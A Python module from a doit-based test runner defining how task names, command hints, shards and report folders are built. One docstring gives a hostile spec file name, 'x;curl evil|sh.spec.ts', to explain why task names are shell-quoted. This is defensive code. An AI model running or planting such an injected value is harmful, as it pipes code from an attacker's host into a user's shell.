"""How one task creator sits in the user's doit pipeline: its name, its extra dependencies,
its CI shard, and how its hints name the program. Shared by the spec tasks (spec_tasks.py) and the
fuzz tasks (fuzz_tasks.py).
"""

from __future__ import annotations

import posixpath
import sys
from dataclasses import replace
from typing import Any

from astest_tasks.config.layout import output_root
from astest_tasks.config.project_config import ProjectConfig
from astest_tasks.config.shards import Shard
from astest_tasks.core.frozen import frozen
from astest_tasks.core.guest_text import doit_line

BASENAME = "astest"


def task_command(command: str, task: str) -> str:
    """The command line that runs ``task``, as a hint or a repro line prints it. A task name
    carries a spec's path, which a spec author chose (``x;curl evil|sh.spec.ts``): quoted, so a
    line copied into a shell runs that task and nothing else. Ordinary names need no quotes and
    print as they are."""
    import shlex  # only a failure's hint or a repro line needs it (issue 40)

    return f"{command} {shlex.quote(task)}"


def task_doc(text: str) -> str:
    """A task's ``doc`` as doit prints it, as it is, in ``doit list`` and ``doit info``: it names
    a spec's path and a runtime's command, which a pull request chooses, so it is kept to its
    line and made inert as every line we print is (doit keeps only a doc's first line anyway)."""
    return doit_line(text, sys.stdout)


@frozen
class Pipeline:
    """How one task creator sits in the user's doit pipeline (``make_astest_tasks``)."""

    basename: str = BASENAME  # names the tasks: <basename>:run:<mode>:<spec-id>
    task_dep: tuple[str, ...] = ()  # the user's tasks every build waits for
    setup: tuple[str, ...] = ()  # the user's tasks every run sets up
    shard: Shard | None = None
    shard_durations: str = ""  # a report.json whose durations balance the shards
    command: str = "doit"  # what runs the tasks, as the hints write it (or "astest")

    @property
    def options_command(self) -> str:
        """How a hint gives one of our options: ``doit astest --timeout 30``; the astest
        command takes them directly, ``astest --timeout 30``."""
        if self.command != "doit" and self.basename == BASENAME:
            return self.command
        return f"{self.command} {self.basename}"

    def sharded(self, shard: Shard | None, durations: str) -> Pipeline:
        return replace(self, shard=shard, shard_durations=durations)

    def task(self, name: str) -> str:
        return f"{self.basename}:{name}"

    def meta(self, kind: str, **fields: str) -> dict[str, Any]:
        """What users' reporters and scripts read instead of parsing task names."""
        return {"astest": {"kind": kind, "creator": self.basename, **fields}}

    def report_dir(self, config: ProjectConfig) -> str:
        """report.json's folder: the output root, a folder per extra instance, and one per
        shard, so that no two of them write the same report."""
        folder = output_root(config)
        if self.basename != BASENAME:
            folder = posixpath.join(folder, self.basename)
        if self.shard is not None:
            folder = posixpath.join(folder, "shards", self.shard.label)
        return folder


DEFAULT_PIPELINE = Pipeline()  # a dodo's plain `task_astest`
